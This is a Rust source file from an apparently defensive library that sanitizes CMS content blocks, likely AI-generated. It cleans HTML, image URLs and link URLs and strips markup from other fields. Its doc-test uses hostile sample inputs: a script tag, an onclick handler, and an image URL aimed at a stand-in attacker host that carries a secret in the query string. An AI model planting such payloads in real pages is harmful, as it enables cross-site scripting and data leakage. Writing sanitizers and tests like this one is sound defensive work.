//! Cleaning a CMS content-block structure: HTML fields through the HTML policy, URL
//! fields through the URL policy (every URL under an image field through the image
//! allow-list, whatever its shape), every other string as text: markup stripped to its
//! text and invisible carriers removed, never stored as live HTML.

use serde_json::Value;

use super::HtmlSanitizer;

/// The JSON fields that hold HTML in the CMS's content blocks (text, FAQ and list
/// blocks): the design's `sanitizeAIBlocks` cleaned these.
pub const DEFAULT_HTML_FIELDS: &[&str] = &[
    "html", "content", "text", "body", "caption", "answer", "items",
];

/// The JSON fields that hold an image URL (checked against the image allow-list).
pub const DEFAULT_IMAGE_FIELDS: &[&str] = &["src", "image", "image_url", "thumbnail"];

/// The JSON fields that hold a link URL (checked against the link policy).
pub const DEFAULT_LINK_FIELDS: &[&str] = &["href", "url", "link"];

/// What [`HtmlSanitizer::clean_blocks`] did.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct BlocksReport {
    /// HTML strings and URLs checked.
    pub cleaned: usize,
    /// Of those, how many were changed (a refused URL becomes an empty string).
    pub changed: usize,
}

/// Which fields hold what, for [`HtmlSanitizer::clean_blocks_with`].
#[derive(Debug, Clone, Copy)]
pub struct BlockFields<'a> {
    /// Fields holding HTML (or arrays of HTML strings).
    pub html: &'a [&'a str],
    /// Fields holding an image URL.
    pub images: &'a [&'a str],
    /// Fields holding a link URL.
    pub links: &'a [&'a str],
}

impl Default for BlockFields<'static> {
    fn default() -> Self {
        Self {
            html: DEFAULT_HTML_FIELDS,
            images: DEFAULT_IMAGE_FIELDS,
            links: DEFAULT_LINK_FIELDS,
        }
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// A block itself: a bare string block is HTML.
    Block,
    Text,
    Html,
    Image,
    Link,
}

impl HtmlSanitizer {
    /// Cleans, in place, every HTML field ([`DEFAULT_HTML_FIELDS`]) anywhere in `blocks`
    /// (nested objects and arrays included: a list block's `items` has each string
    /// cleaned) and checks every URL field ([`DEFAULT_IMAGE_FIELDS`],
    /// [`DEFAULT_LINK_FIELDS`]) against this policy, emptying refused URLs. Under an
    /// image field every URL, in any field and at any depth (`{"image": {"url": …}}`),
    /// goes through the image allow-list. A string that is a block of its own is HTML.
    /// Other fields (`type`, `id`, `alt`, `question` …) are text: markup is stripped to
    /// its text and invisible carriers removed, so none is stored as live HTML; they
    /// count in the report only when that changed them. Each HTML string counts
    /// `ai_output.sanitized{changed}`.
    ///
    /// ```
    /// use serde_json::json;
    /// use tower_harden::sanitize::html::HtmlSanitizer;
    ///
    /// let mut blocks = json!([
    ///     {"type": "heading", "level": 2, "text": "Old Dubai <script>alert(1)</script>"},
    ///     {"type": "faq", "items": [{"question": "Open & free?", "answer": "<b onclick=x()>Daily</b>"}]},
    ///     {"type": "image", "src": "//attacker.example/p.png?q=SECRET", "alt": "Fish & chips"},
    /// ]);
    /// let report = HtmlSanitizer::new().clean_blocks(&mut blocks);
    /// assert_eq!(blocks[0]["text"], "Old Dubai ");
    /// assert_eq!(blocks[1]["items"][0]["question"], "Open & free?");
    /// assert_eq!(blocks[1]["items"][0]["answer"], "<b>Daily</b>");
    /// assert_eq!(blocks[2]["src"], "");
    /// assert_eq!(blocks[2]["alt"], "Fish & chips");
    /// assert_eq!((report.cleaned, report.changed), (3, 3));
    /// ```
    pub fn clean_blocks(&self, blocks: &mut Value) -> BlocksReport {
        self.clean_blocks_with(blocks, BlockFields::default())
    }

    /// Like [`clean_blocks`](Self::clean_blocks), with your own field names.
    pub fn clean_blocks_with(&self, blocks: &mut Value, fields: BlockFields<'_>) -> BlocksReport {
        let mut report = BlocksReport::default();
        self.walk(blocks, fields, Kind::Block, &mut report);
        report
    }

    fn walk(
        &self,
        value: &mut Value,
        fields: BlockFields<'_>,
        kind: Kind,
        report: &mut BlocksReport,
    ) {
        match value {
            Value::String(text) => {
                let cleaned = match kind {
                    Kind::Text => match super::text::clean_text(text) {
                        std::borrow::Cow::Borrowed(_) => return,
                        std::borrow::Cow::Owned(cleaned) => cleaned,
                    },
                    Kind::Block | Kind::Html => self.clean(text),
                    Kind::Image => self.urls.image(text).unwrap_or_default(),
                    Kind::Link => self.urls.link(text).unwrap_or_default(),
                };
                report.cleaned += 1;
                if cleaned != *text {
                    report.changed += 1;
                    *text = cleaned;
                }
            }
            Value::Array(items) => {
                for item in items {
                    self.walk(item, fields, kind, report);
                }
            }
            Value::Object(map) => {
                let in_image = kind == Kind::Image;
                for (key, child) in map.iter_mut() {
                    let key = key.as_str();
                    let kind = if fields.html.contains(&key) {
                        Kind::Html
                    } else if fields.images.contains(&key)
                        || (in_image && fields.links.contains(&key))
                    {
                        Kind::Image
                    } else if fields.links.contains(&key) {
                        Kind::Link
                    } else if in_image && child.as_str().is_some_and(super::text::looks_like_url) {
                        Kind::Image
                    } else if in_image && !child.is_string() {
                        // An object or array under an image: its URLs are images too.
                        Kind::Image
                    } else {
                        Kind::Text
                    };
                    self.walk(child, fields, kind, report);
                }
            }
            _ => {}
        }
    }
}
